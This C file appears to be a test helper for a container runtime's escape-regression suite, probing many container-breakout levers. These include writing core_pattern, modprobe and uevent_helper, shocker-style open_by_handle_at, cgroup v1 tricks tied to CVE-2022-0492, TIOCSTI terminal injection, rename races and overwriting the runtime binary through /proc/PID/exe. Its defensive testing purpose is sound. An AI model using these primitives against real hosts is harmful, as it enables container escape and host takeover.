/*
 * escape: what an attacker has inside, in one static program, for tests/bats/54-escapes*.
 *
 *	try HANDLE MAJOR:MINOR		every lever in turn, "NAME worked" or "NAME CODE"; with a file's handle
 *					and the number of a disk of the host's
 *	handle FILE			that handle, in hexadecimal (on the host)
 *	swap A B [A B]...		two names change places until the parent is gone, pair after pair
 *	type TEXT			pushes TEXT into the terminal of standard input (TIOCSTI)
 *	session -|NAME COMMAND...	adds a key to a new session keyring (of that NAME), open to all, and executes
 *	key				the key of the session keyring, if there is one
 *	id				the effective user id
 *	hunt				opens the runtime's executable whenever it comes along, and writes to it;
 *					until /stop is there
 *	queue				a message queue of 80 KiB, until standard input ends
 *	exe PID				opens /proc/PID/exe, says "open", and writes to it when standard input ends
 */
#include "tests/tools/escape_exe.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <mqueue.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *host_handle = "", *host_disk = "0:0";

/* 0 or a descriptor: it worked; else -1 and errno */
static int writable(const char *path) { return open(path, O_WRONLY | O_CLOEXEC); }

static int node(mode_t type, unsigned major, unsigned minor)
{
	static const char path[] = "/tmp/escape-node";
	int fd, code;

	(void)unlink(path);
	if (mknod(path, type | 0600, makedev(major, minor)) < 0)
		return -1;
	fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	code = errno;
	(void)unlink(path);
	errno = code;
	return fd;
}

static int disk(void)
{
	unsigned major, minor;

	return sscanf(host_disk, "%u:%u", &major, &minor) == 2 ? node(S_IFBLK, major, minor) : -1;
}

static int in_child(int (*what)(void))
{
	int status;
	pid_t pid = fork();

	if (pid == 0)
		_exit(what() < 0 ? errno : 0);
	if (pid < 0 || waitpid(pid, &status, 0) < 0 || !WIFEXITED(status))
		return errno = EINTR, -1;
	return WEXITSTATUS(status) ? errno = WEXITSTATUS(status), -1 : 0;
}

static int from_hex(const char *text, unsigned char *out, int max)
{
	unsigned v;
	int n = 0;

	for (; n < max && sscanf(text + 2 * n, "%2x", &v) == 1; n++)
		out[n] = (unsigned char)v;
	return n;
}

/* "shocker": a file of the host's by its inode, from any descriptor of the same file system. */
static int by_handle(void)
{
	struct { struct file_handle h; unsigned char space[128]; } u;
	int at = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC), n;
	unsigned char raw[132];

	n = from_hex(host_handle, raw, sizeof raw) - (int)sizeof u.h.handle_type;
	if (at < 0 || n < 0)
		return -1;
	memcpy(&u.h.handle_type, raw, sizeof u.h.handle_type);
	u.h.handle_bytes = (unsigned)n;
	memcpy(u.h.f_handle, raw + sizeof u.h.handle_type, (size_t)n);
	return open_by_handle_at(at, &u.h, O_RDONLY);
}

static int remount(void) { return mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL); }
static int cgroup1(void) { return mount("none", "/tmp", "cgroup", 0, "none,name=escape"); }
static int mount_v1(void) { return unshare(CLONE_NEWNS) < 0 ? -1 : cgroup1(); }
static int new_user(void) { return unshare(CLONE_NEWUSER); }
/* The old agent of CVE-2022-0492: a user namespace first. */
static int nested_cgroup1(void)
{
	return unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? -1 : cgroup1();
}
static int in_root_ns(void)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC);

	return fd < 0 ? -1 : setns(fd, CLONE_NEWNS);
}

static int levers_core(void) { return writable("/proc/sys/kernel/core_pattern"); }
static int levers_modprobe(void) { return writable("/proc/sys/kernel/modprobe"); }
static int levers_sysrq(void) { return writable("/proc/sysrq-trigger"); }
static int levers_irq(void) { return writable("/proc/irq/default_smp_affinity"); }
static int levers_vm(void) { return writable("/proc/sys/vm/overcommit_memory"); }
static int levers_panic(void) { return writable("/proc/sys/kernel/panic"); }
static int levers_uevent(void) { return writable("/sys/kernel/uevent_helper"); }
static int levers_power(void) { return writable("/sys/power/state"); }
static int levers_kcore(void)
{
	char b[4];
	int fd = open("/proc/kcore", O_RDONLY | O_CLOEXEC);

	return fd < 0 ? -1 : read(fd, b, sizeof b) == sizeof b ? 0 : (errno = EACCES, -1);
}
static int calls_uring(void)
{
	struct io_uring_params p = { 0 };

	return (int)syscall(SYS_io_uring_setup, 1, &p);
}
static int calls_uffd(void) { return (int)syscall(SYS_userfaultfd, 1); }
static int calls_perf(void)
{
	struct perf_event_attr a = { .type = PERF_TYPE_SOFTWARE, .size = sizeof a,
				     .config = PERF_COUNT_SW_CPU_CLOCK };

	return (int)syscall(SYS_perf_event_open, &a, 0, -1, -1, 0);
}
static int calls_bpf(void)
{
	union bpf_attr a = { .map_type = BPF_MAP_TYPE_ARRAY, .key_size = 4, .value_size = 4, .max_entries = 1 };

	return (int)syscall(SYS_bpf, BPF_MAP_CREATE, &a, sizeof a);
}
/* Let in, these find something wrong with what they were given. */
static int calls_module(void) { return (int)syscall(SYS_init_module, "no module", 9, ""); }
static int calls_fmodule(void) { return (int)syscall(SYS_finit_module, -1, "", 0); }
static int calls_kexec(void) { return (int)syscall(SYS_kexec_load, 0, 0, NULL, ~0UL); }
static int calls_acct(void) { return acct("/escape-is-not-there"); }
static int calls_swapon(void) { return (int)syscall(SYS_swapon, "/escape-is-not-there", 0); }
static int calls_time(void)
{
	struct timex t = { .modes = ADJ_TICK, .tick = 1 };

	return adjtimex(&t);
}
static int calls_syslog(void)
{
	char b[256];

	return (int)syscall(SYS_syslog, 3, b, sizeof b);
}
static int calls_quota(void) { return (int)syscall(SYS_quotactl, 0x800002u << 8, "/dev/escape", 0, NULL); }
static int calls_ports(void) { return (int)syscall(SYS_iopl, 3); }
static int calls_keyctl(void)
{
	return (int)syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1);
}
static int calls_add_key(void)
{
	return (int)syscall(SYS_add_key, "user", "escape", "x", 1, KEY_SPEC_PROCESS_KEYRING);
}
static int calls_vsock(void) { return socket(AF_VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0); }
static int calls_alg(void) { return socket(AF_ALG, SOCK_SEQPACKET | SOCK_CLOEXEC, 0); }
static int nodes_mem(void) { return node(S_IFCHR, 1, 1); }
static int nodes_kmsg(void) { return node(S_IFCHR, 1, 11); }

static const struct { const char *name; int (*run)(void); } levers[] = {
	{ "core_pattern", levers_core }, { "modprobe", levers_modprobe }, { "sysrq", levers_sysrq },
	{ "irq-affinity", levers_irq }, { "overcommit", levers_vm }, { "panic", levers_panic },
	{ "uevent_helper", levers_uevent }, { "power", levers_power }, { "kcore", levers_kcore },
	{ "remount-proc-sys", remount }, { "cgroup-v1", mount_v1 }, { "nested-cgroup-v1", nested_cgroup1 },
	{ "user-namespace", new_user }, { "setns", in_root_ns }, { "open-by-handle", by_handle },
	{ "disk", disk }, { "mem", nodes_mem }, { "kmsg", nodes_kmsg },
	{ "io_uring", calls_uring }, { "userfaultfd", calls_uffd }, { "perf", calls_perf }, { "bpf", calls_bpf },
	{ "init_module", calls_module }, { "finit_module", calls_fmodule }, { "kexec", calls_kexec },
	{ "acct", calls_acct }, { "swapon", calls_swapon }, { "clock", calls_time }, { "syslog", calls_syslog },
	{ "quota", calls_quota }, { "iopl", calls_ports }, { "keyctl", calls_keyctl }, { "add_key", calls_add_key },
	{ "vsock", calls_vsock }, { "af_alg", calls_alg },
};

/* What the kernel says to whom it does not let in, and where it has no such thing. */
static int refused(int code) { return code == EPERM || code == EACCES || code == EROFS || code == ENOSYS ||
				      code == ENOENT || code == EAFNOSUPPORT || code == EOPNOTSUPP || code == ENODEV ||
				      code == ENXIO || code == ESTALE || code == EBUSY; }

static int try_all(void)
{
	for (size_t i = 0; i < sizeof levers / sizeof *levers; i++) {
		/* Two of them are let in and then find no file: that is how they tell. */
		int not_there = levers[i].run == calls_acct || levers[i].run == calls_swapon ||
				levers[i].run == calls_quota;
		int r = in_child(levers[i].run), code = errno;

		if (r == 0 || !refused(code) || (not_there && code == ENOENT))
			printf("%s worked\n", levers[i].name);
		else
			printf("%s %s\n", levers[i].name, strerrorname_np(code));
	}
	return 0;
}

static int print_handle(const char *path)
{
	struct { struct file_handle h; unsigned char space[128]; } u = { .h = { .handle_bytes = sizeof u.space } };
	const unsigned char *p = (const unsigned char *)&u.h.handle_type;
	int mount;

	if (name_to_handle_at(AT_FDCWD, path, &u.h, &mount, 0) < 0)
		return perror(path), 1;
	for (size_t i = 0; i < sizeof u.h.handle_type + u.h.handle_bytes; i++)
		printf("%02x", p[i]);
	return puts("") < 0;
}

static int swap(char **pair, int n)
{
	pid_t parent = getppid();

	while (getppid() == parent)
		for (int i = 0; i + 1 < n; i += 2)
			(void)renameat2(AT_FDCWD, pair[i], AT_FDCWD, pair[i + 1], RENAME_EXCHANGE);
	return 0;
}

static int type(const char *text)
{
	for (; *text; text++)
		if (ioctl(0, TIOCSTI, text) < 0)
			return perror("TIOCSTI"), 1;
	return 0;
}

static int session(const char *name, char **argv)
{
	long ring = syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, strcmp(name, "-") ? name : NULL);
	long key = syscall(SYS_add_key, "user", "vzrun-escape", "secret", 6, KEY_SPEC_SESSION_KEYRING);

	if (ring < 0 || key < 0 || syscall(SYS_keyctl, KEYCTL_SETPERM, ring, 0x3f3f3f3f) < 0 ||
	    syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f3f3f) < 0)
		return perror("session"), 1;
	execvp(*argv, argv);
	return perror(*argv), 1;
}

static int show_key(void)
{
	char text[64];
	long key = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "vzrun-escape", 0), n;

	if (key < 0 || (n = syscall(SYS_keyctl, KEYCTL_READ, key, text, sizeof text)) < 0)
		return perror("no key"), 1;
	printf("%.*s\n", (int)n, text);
	return 0;
}

static int queue(void)
{
	struct mq_attr a = { .mq_maxmsg = 10, .mq_msgsize = 8192 };
	char c;

	if (syscall(SYS_mq_open, "escape", O_RDWR | O_CREAT, 0600, &a) < 0)
		return perror("mq_open"), 1;
	(void)syscall(SYS_mq_unlink, "escape");
	puts("queued");
	fflush(stdout);
	while (read(0, &c, 1) > 0)
		;
	return 0;
}

/* Datagrams of all sizes, with descriptors by the hundred, as long as somebody listens. */
static int notify(void)
{
	static const size_t sizes[] = { 0, 40, 1024, 100000 };
	static char text[100000] = "FDSTORE=1\nMAINPID=1\nBARRIER=1\nREADY=0\n";
	union { struct cmsghdr h; char buf[CMSG_SPACE(sizeof(int) * 200)]; } control = { 0 };
	struct sockaddr_un to = { .sun_family = AF_UNIX, .sun_path = "/run/host/notify" };
	struct iovec iov = { text, 0 };
	struct msghdr m = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1,
			    .msg_control = &control, .msg_controllen = sizeof control };
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	unsigned taken = 0;

	control.h = (struct cmsghdr){ .cmsg_len = CMSG_LEN(sizeof(int) * 200), .cmsg_level = SOL_SOCKET,
				      .cmsg_type = SCM_RIGHTS };
	for (int i = 0; i < 200; i++)
		memcpy(CMSG_DATA(&control.h) + i * sizeof fd, &fd, sizeof fd);
	for (unsigned i = 0; i < 1000000; i++) {
		iov.iov_len = sizes[i % (sizeof sizes / sizeof *sizes)];
		if (sendmsg(fd, &m, 0) >= 0)
			taken++;
		else if (errno == ECONNREFUSED)
			break;
	}
	return printf("taken: %u\n", taken) < 0;
}

int main(int argc, char **argv)
{
	const char *verb = argc > 1 ? argv[1] : "", *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "";

	if (strcmp(verb, "try") == 0 && argc == 4)
		return host_handle = a, host_disk = b, try_all();
	if (strcmp(verb, "handle") == 0 && argc == 3)
		return print_handle(a);
	if (strcmp(verb, "swap") == 0 && argc > 3)
		return swap(argv + 2, argc - 2);
	if (strcmp(verb, "type") == 0 && argc == 3)
		return type(a);
	if (strcmp(verb, "session") == 0 && argc > 3)
		return session(a, argv + 3);
	if (strcmp(verb, "hunt") == 0)
		return exe_hunt();
	if (strcmp(verb, "id") == 0)
		return printf("%d\n", (int)geteuid()) < 0;
	if (strcmp(verb, "key") == 0)
		return show_key();
	if (strcmp(verb, "queue") == 0)
		return queue();
	if (strcmp(verb, "notify") == 0)
		return notify();
	if (strcmp(verb, "exe") == 0 && argc == 3)
		return exe_overwrite(a);
	fputs("escape: wrong words\n", stderr);
	return 2;
}
